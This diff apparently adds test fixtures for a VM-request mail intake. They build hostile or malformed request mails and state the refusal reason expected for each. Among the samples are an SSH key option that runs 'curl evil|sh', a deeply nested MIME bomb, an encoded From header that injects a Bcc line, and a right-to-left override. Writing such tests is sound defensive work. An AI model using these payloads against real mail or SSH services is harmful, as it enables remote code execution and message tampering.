@@ -191,3 +191,61 @@ export function schemaOf(target: string): z.ZodType {
   if (!found) throw new Error(`no schema for ${target}`);
   return found.schema;
 }
+
+// ---------------------------------------------------------------- hostile request mails (the mail intake)
+
+/** A request mail from `from`, with `body` and optional raw MIME `extraHeaders`; CRLF line ends as on the wire. */
+export function requestMail(o: { from: string; to: string; subject?: string; messageId: string; body: string; extraHeaders?: string[]; contentType?: string }): string {
+  return [
+    `From: ${o.from}`,
+    `To: ${o.to}`,
+    `Subject: ${o.subject ?? 'Demande de VM'}`,
+    `Message-ID: ${o.messageId}`,
+    `Date: ${new Date().toUTCString()}`,
+    'MIME-Version: 1.0',
+    ...(o.extraHeaders ?? []),
+    `Content-Type: ${o.contentType ?? 'text/plain; charset=utf-8'}`,
+    '',
+    o.body,
+    '',
+  ].join('\r\n');
+}
+
+/** A MIME bomb: parts nested inside parts, far beyond what a request holds. */
+function mimeBomb(depth: number): { contentType: string; body: string } {
+  let body = 'ssh-ed25519 AAAA';
+  let contentType = 'text/plain';
+  for (let i = 0; i < depth; i++) {
+    const boundary = `b${i}`;
+    body = [`--${boundary}`, `Content-Type: ${contentType}${i ? `; boundary="b${i - 1}"` : ''}`, '', body, `--${boundary}--`].join('\r\n');
+    contentType = 'multipart/mixed';
+  }
+  return { contentType: `multipart/mixed; boundary="b${depth - 1}"`, body };
+}
+
+/**
+ * Hostile or malformed requests, each from a listed member (so only what is wrong with the mail refuses it): the
+ * raw mail for `key` (a valid public key line) and the reason the verdict must give. None may start a host change.
+ */
+export function hostileRequestMails(o: { member: string; to: string; key: string; privateKey: string }): { label: string; raw: string; reason: RegExp }[] {
+  const id = (label: string) => `<hostile-${label.replace(/\W+/g, '-')}-${Date.now()}@lab.invalid>`;
+  const mail = (label: string, body: string, extra: Partial<Parameters<typeof requestMail>[0]> = {}) =>
+    ({ label, raw: requestMail({ from: o.member, to: o.to, messageId: id(label), body, ...extra }) });
+  const bomb = mimeBomb(60);
+  return [
+    { ...mail('no key', 'Bonjour, je voudrais une VM.'), reason: /no SSH public key/ },
+    { ...mail('two keys', `${o.key}\r\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl other`), reason: /2 SSH public keys/ },
+    { ...mail('a key with command=', `command="/bin/sh -c 'curl evil|sh'",no-pty ${o.key}`), reason: /options before its type/ },
+    { ...mail('a key with from=', `from="10.0.0.0/8" ${o.key}`), reason: /options before its type/ },
+    { ...mail('a DSA key', 'ssh-dss AAAAB3NzaC1kc3MAAACBAP8= old'), reason: /ssh-dss is not accepted/ },
+    { ...mail('a truncated key', 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0'), reason: /truncated|not valid base64|32 bytes/ },
+    { ...mail('a key whose data says another type', `ssh-rsa ${o.key.split(' ')[1]}`), reason: /does not match its type/ },
+    { ...mail('a private key', `${o.key}\r\n${o.privateKey.replace(/\n/g, '\r\n')}`), reason: /PRIVATE SSH key/ },
+    { ...mail('a MIME bomb', bomb.body, { contentType: bomb.contentType }), reason: /MIME parts/ },
+    { ...mail('a huge mail', `${o.key}\r\n${'A'.repeat(76).concat('\r\n').repeat(4000)}`), reason: /bytes: a request is at most/ },
+    { ...mail('a From with a newline (encoded)', o.key, { from: `=?utf-8?B?${Buffer.from('Alice\r\nBcc: everyone@lab.invalid').toString('base64')}?= <${o.member}>` }), reason: /header injection/ },
+    { ...mail('a From name with a right-to-left override', o.key, { from: `=?utf-8?B?${Buffer.from('Alice\u202eecilA').toString('base64')}?= <${o.member}>` }), reason: /header injection/ },
+    { ...mail('two From headers', o.key, { extraHeaders: [`From: root@lab.invalid`] }), reason: /exactly one From header/ },
+    { ...mail('a From with two addresses', o.key, { from: `${o.member}, root@lab.invalid` }), reason: /exactly one sender/ },
+  ];
+}
